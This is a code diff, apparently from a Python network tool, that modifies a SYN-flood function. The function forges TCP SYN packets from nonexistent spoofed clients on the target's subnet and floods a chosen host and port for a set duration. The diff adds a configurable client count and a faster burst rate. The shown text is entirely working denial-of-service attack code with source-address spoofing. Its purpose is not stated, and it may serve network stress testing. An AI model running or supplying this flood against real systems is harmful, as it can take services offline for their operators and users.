@@ -125,16 +125,19 @@ def syn(family: int, source: str, target: str, ports: tuple[int, int], sequence:
     return head[:10] + struct.pack("!H", internet_checksum(head)) + head[12:] + tcp
 
 
-def syn_flood(device: str, family: int, target: str, port: int, seconds: float, link: bytes = b"") -> int:
-    """Sends SYNs of very many clients that do not exist, neighbours of `target`, until the time is over; how many.
-    `link`: what comes before each packet, an Ethernet header on an Ethernet."""
+def syn_flood(device: str, family: int, target: str, port: int, seconds: float, link: bytes = b"",
+              clients: int = 8192) -> int:
+    """Sends SYNs of so many clients that do not exist, neighbours of `target`, until the time is over; how many.
+    `link`: what comes before each packet, an Ethernet header on an Ethernet. With few clients it goes by bursts of so
+    many, some 10,000 a second; with a thousand or more as fast as one core can."""
     choose = random.Random(1)
     before = target.rpartition("." if family == 4 else ":")[0] + (".{}" if family == 4 else ":{:x}")
     frames = [link + syn(family, before.format(choose.randrange(3, 250)), target,
-                         (choose.randrange(1024, 65536), port), choose.getrandbits(32)) for _ in range(8192)]
+                         (choose.randrange(1024, 65536), port), choose.getrandbits(32)) for _ in range(clients)]
+    rounds = 8 if clients >= 1000 else 1
     sent, end = 0, time.monotonic() + seconds
     while time.monotonic() < end:
-        sent += flood(device, frames, 8 * len(frames))
+        sent += flood(device, frames, rounds * len(frames))
     return sent
 
 
